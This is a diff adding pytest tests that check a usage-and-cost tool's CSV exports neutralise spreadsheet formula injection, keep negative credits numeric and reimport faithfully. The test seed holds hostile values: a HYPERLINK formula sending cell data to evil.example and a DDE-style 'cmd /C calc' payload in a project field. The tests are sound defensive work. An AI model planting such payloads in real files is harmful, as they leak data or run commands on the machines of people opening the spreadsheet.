@@ -316,3 +316,92 @@ def test_focus_export_rebuilt_into_a_second_database_gives_the_same_totals(engin
     assert preferred_total(copy) == preferred_total(engine)
     for measure in ("input_tokens", "cache_read_tokens", "output_tokens", "reasoning_tokens", "requests"):
         assert sum(getattr(s, measure) for s in after.values()) == sum(getattr(s, measure) for s in before.values())
+
+
+HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def seed_hostile(engine) -> None:
+    """Text a provider, a billing file or the proxy could carry, and a negative credit."""
+    day = datetime(2026, 10, 7, tzinfo=UTC)
+    common = {"provider": "openai", "account": "org-1", "source": "api", "bucket_start": day}
+    upsert_records(
+        engine,
+        [
+            UsageRecord(
+                **common,
+                kind="costs",
+                bucket_end=day + timedelta(days=1),
+                project="@SUM(1+1)*cmd|' /C calc'!A0",
+                line_item="-credit",
+                cost=D("-1.25"),
+                currency="USD",
+                basis="billed",
+            ),
+            UsageRecord(
+                **common,
+                kind="completions",
+                bucket_end=day + timedelta(hours=1),
+                project="+proj",
+                model=HOSTILE_MODEL,
+                team="\tteam",
+                input_tokens=10,
+                output_tokens=2,
+                requests=1,
+                cost=D("0.5"),
+                currency="USD",
+                basis="estimated",
+                price_version="v1",
+            ),
+        ],
+    )
+
+
+def unsafe_cells(text: str) -> list[str]:
+    """Cells a spreadsheet would evaluate: formula-leading and not a plain number."""
+    out = []
+    for row in csv.reader(io.StringIO(text, newline="")):
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                try:
+                    Decimal(cell)
+                except ArithmeticError:
+                    out.append(cell)
+    return out
+
+
+@pytest.mark.parametrize("fmt", ["focus", "csv"])
+def test_csv_exports_escape_formulas_but_keep_negative_money_numeric(engine, tmp_path, fmt):
+    seed(engine)
+    seed_hostile(engine)
+    path = tmp_path / f"export-{fmt}.csv"
+    export(engine, fmt, SINCE, UNTIL, path)
+    text = path.read_text()
+    assert unsafe_cells(text) == []
+    assert "'" + HOSTILE_MODEL.replace('"', '""') in text and ",-1.25" in text.replace("-1.2500000000", "-1.25")
+
+
+def test_escaped_focus_export_reimports_to_the_same_values_and_totals(engine, tmp_path):
+    from importers.service import import_file
+
+    seed(engine)
+    seed_hostile(engine)
+    path = tmp_path / "export.csv"
+    exported = export(engine, "focus", SINCE, UNTIL, path)
+    other = open_database(url=f"sqlite:///{tmp_path / 'reimport.db'}")
+    imported = import_file(path, importer="focus", engine=other, settings=Settings(), who="test")
+    assert imported.status == "imported", imported.summary()
+    # The credit counts (negative money stayed a number); the estimate sits on a billed day.
+    assert preferred_total(other) == exported.totals["USD"] == preferred_total(engine) == D("12.8456") - D("1.25")
+    with other.connect() as conn:
+        models = {r.model for r in conn.execute(select(USAGE.c.model))}
+        teams = {r.team for r in conn.execute(select(USAGE.c.team))}
+    assert HOSTILE_MODEL in models and "team" in {t.strip() for t in teams}
+
+
+def test_parquet_keeps_raw_values(engine, tmp_path):
+    seed_hostile(engine)
+    path = tmp_path / "export.parquet"
+    export(engine, "parquet", SINCE, UNTIL, path)
+    table = pq.read_table(path).to_pylist()
+    assert HOSTILE_MODEL in {r["x_Model"] for r in table}
